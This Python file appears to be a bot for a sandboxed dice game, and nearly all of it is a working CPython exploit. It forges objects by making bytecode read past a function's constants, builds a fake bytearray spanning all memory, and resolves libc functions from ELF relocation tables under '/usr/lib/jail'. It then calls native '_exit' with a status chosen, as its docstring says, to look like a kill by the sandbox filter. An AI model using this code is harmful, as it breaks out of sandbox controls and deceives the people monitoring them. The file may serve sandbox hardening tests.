"""End by the C library's own _exit, with the status of one whom the filter has killed."""

import os
import struct
import sys

from gangland import gang_of_dice

NUMBER = 159
HEADER = bytes.__basicsize__ - 1
KEPT = []


def blank():
    return None


def object_in(body):
    """Return the bytes' own content as a Python object, by bytecode that reads past its constants."""
    for _ in range(500):
        holder, consts = struct.pack("<Q", id(body) + HEADER), (None, len(KEPT))
        KEPT.append((holder, consts, body))
        distance = id(holder) + HEADER - id(consts) - tuple.__basicsize__
        if distance > 0 and distance % 8 == 0 and distance >> 35 == 0:
            index = (distance >> 3).to_bytes(4, "big")
            wide = b"".join(bytes((144, byte)) for byte in index[:3])
            blank.__code__ = blank.__code__.replace(
                co_consts=consts, co_code=bytes((151, 0)) + wide + bytes((100, index[3], 83, 0))
            )
            return blank()
    raise MemoryError("no such luck")


def address_of(memory, wanted):
    """Return where a function of the C library is, as the interpreter's own table of them says."""
    for path in (sys.executable, *(f"/usr/lib/jail/{name}" for name in os.listdir("/usr/lib/jail"))):
        with open(path, "rb") as file:
            elf = file.read()
        at, size, count = (int.from_bytes(elf[i : i + n], "little") for i, n in ((40, 8), (58, 2), (60, 2)))
        sections = [struct.unpack_from("<IIQQQQIIQQ", elf, at + size * i) for i in range(count)]
        symbols, base = [], None
        for section in sections:
            if section[1] == 11:
                strings = sections[section[6]][4]
                for i in range(section[5] // 24):
                    name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", elf, section[4] + 24 * i)
                    symbols.append(elf[strings + name : elf.index(b"\0", strings + name)].decode())
                    if symbols[-1] == "PyLong_Type" and value:
                        base = id(int) - value
        if base is None:
            continue
        for section in sections:
            if section[1] == 4:
                for i in range(section[5] // 24):
                    offset, info, _ = struct.unpack_from("<QQq", elf, section[4] + 24 * i)
                    if info >> 32 and symbols[info >> 32] == wanted:
                        return struct.unpack("<Q", memory[base + offset : base + offset + 8])[0]
    raise LookupError(wanted)


def native(wanted, first):
    """Return a function that calls one of the C library's with this number as its first argument."""
    memory = object_in(struct.pack("<QQQQQQQ", 1 << 40, id(bytearray), 2**62, 2**62, 0, 0, 0))
    entry = bytes(memory[id(len) + 48 : id(len) + 56])
    method = struct.pack("<QQi4xQ", 0, address_of(memory, wanted), 8, 0)
    KEPT.append(method)
    made = struct.pack("<QQQQQQ", 1 << 40, id(type(len)), id(method) + HEADER, first, 0, 0) + entry
    return object_in(made)


class Subject(gang_of_dice.Bot):
    def choose_dice(self, view):
        call = native('_exit', NUMBER)
        call(b"")
        self.log("ESCAPED: the call came back")
        return 1
